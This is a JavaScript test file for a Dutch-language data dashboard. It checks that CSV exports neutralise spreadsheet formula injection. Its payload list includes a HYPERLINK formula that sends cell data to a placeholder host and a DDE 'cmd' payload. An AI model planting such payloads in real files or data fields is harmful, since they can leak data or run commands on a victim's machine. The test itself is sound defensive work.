// Spreadsheet formulas in the data never leave the app as formulas (OWASP
// "CSV injection"): extracts whose provider names, codes and amounts are
// formulas are loaded, and every CSV the app offers for them (rejected
// rows, the KPI table, the breakdown per provider, the goals overview with
// formula titles) is read back: no cell can start a formula, the payloads are
// still there as text with a leading ', and negative amounts stay numbers.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { openApp, visit } from './harness.mjs';

const FORMULES = [
  '=HYPERLINK("https://voorbeeld.invalid/?"&A1;"klik")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
];
const quote = (s) => `"${s.replaceAll('"', '""')}"`;

let app;
before(async () => {
  app = await openApp();
  await visit(app, '/gegevens');
  const trajecten = ['client;toewijzing;gemeente;aanbieder;productcategorie;productcode;segment;begindatum;einddatum;reden_beeindiging'];
  const declaraties = ['toewijzing;maand;bedrag'];
  FORMULES.forEach((f, i) => {
    for (let j = 0; j < 6; j++) {
      trajecten.push(`C${i}${j};T${i}${j};GM0243;${quote(f)};45;45A01;4;01-02-2023;;`);
      declaraties.push(`T${i}${j};2023-03;100,00`, `T${i}${j};2023-04;-1234,50`);
    }
    trajecten.push(`X${i};R${i};${quote(f)};P;45;45A01;4;01-02-2023;;`);
  });
  await app.page.setInputFiles('#bestanden', [
    { name: 'trajecten.csv', mimeType: 'text/csv', buffer: Buffer.from(trajecten.join('\n') + '\n') },
    { name: 'declaraties.csv', mimeType: 'text/csv', buffer: Buffer.from(declaraties.join('\n') + '\n') },
  ]);
  // Each file has its card once it is read (the live announcement names
  // only the last file).
  for (const name of ['trajecten.csv', 'declaraties.csv']) {
    await app.page.locator('section.bestandskaart', { has: app.page.getByRole('heading', { name, exact: true }) }).waitFor();
  }
});
after(async () => { await app.close(); });

// RFC 4180 with the given delimiter; a BOM is dropped.
function cells(text, delimiter = ';') {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter) { rows.at(-1).push(cell); cell = ''; }
    else if (c === '\r' && s[i + 1] === '\n') { rows.at(-1).push(cell); cell = ''; rows.push([]); i++; }
    else cell += c;
  }
  if (cell !== '' || rows.at(-1).length) rows.at(-1).push(cell);
  return rows.filter((r) => r.length);
}

// A spreadsheet reads a cell as a formula when it starts (perhaps after
// spaces) with = + - @ tab or CR; a plain number is harmless.
function startsFormula(cell) {
  if (/^[+-]?\d[\d.,]*$/.test(cell) && /\d$/.test(cell)) return false;
  return /^[ \u00a0]*[=+\-@\t\r\n]/.test(cell);
}

function assertSafe(name, text) {
  const all = cells(text).flat();
  assert.ok(all.length > 5, `${name} has cells`);
  for (const c of all) assert.ok(!startsFormula(c), `${name}: the cell ${JSON.stringify(c)} starts a formula`);
  return all;
}

async function download(name, scope = app.page) {
  const [d] = await Promise.all([app.page.waitForEvent('download'), scope.getByRole('button', { name }).click()]);
  return readFile(await d.path(), 'utf8');
}

async function dashboard(query) {
  await app.page.evaluate((q) => {
    history.pushState(null, '', '/dashboard?' + q);
    window.dispatchEvent(new PopStateEvent('popstate'));
  }, query);
  await app.page.locator('.dashboard__kop').waitFor();
}

test('the rejected rows come back with every formula neutralised', async () => {
  const card = app.page.locator('section.bestandskaart', { has: app.page.getByRole('heading', { name: 'trajecten.csv', exact: true }) });
  const text = await download('Download afgewezen regels', card);
  const all = assertSafe('afgewezen-trajecten.csv', text);
  for (const f of FORMULES) assert.ok(all.includes(`'${f}`), `${f} is kept as text`);
});

test('the breakdown per provider and the KPI table: no formula, amounts stay numbers', async () => {
  await dashboard('periode=2023&uitsplitsing=aanbieder&k=1&sectie=gemeenten');
  await app.page.locator('table.uitsplitsing tbody tr').first().waitFor();
  const per = await download('Exporteer uitsplitsing (CSV)');
  const all = assertSafe('uitsplitsing-aanbieder.csv', per);
  for (const f of FORMULES) assert.ok(all.includes(`'${f}`), `${f} is a group's name, as text`);
  const kpi = await download('Exporteer CSV');
  assertSafe('kpi.csv', kpi);
  // 4 providers × 6 youths × (100,00 − 1 234,50) = −27 228,00.
  const kosten = cells(kpi).find((r) => r[0] === 'kosten');
  assert.equal(kosten[1], '-27228,00');
});

test('the goals overview with formula titles (imported from a file) is safe', async () => {
  await app.page.evaluate(() => {
    history.pushState(null, '', '/doelen');
    window.dispatchEvent(new PopStateEvent('popstate'));
  });
  await app.page.locator('article.doel').first().waitFor();
  const json = JSON.parse(await download('Exporteer doelen (JSON)'));
  json.doelen.forEach((d, i) => { d.titel = FORMULES[i % FORMULES.length]; });
  await app.page.locator('#doelen-import').setInputFiles({
    name: 'doelen.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(json)),
  });
  await app.page.locator('article.doel h3', { hasText: FORMULES[1] }).first().waitFor();
  const text = await download('Exporteer overzicht (CSV)');
  const all = assertSafe('doelen-overzicht.csv', text);
  for (const f of FORMULES) assert.ok(all.includes(`'${f}`), `${f} is a title, as text`);
  assert.equal(cells(text).length, json.doelen.length + 1, 'a row per goal under the header');
});
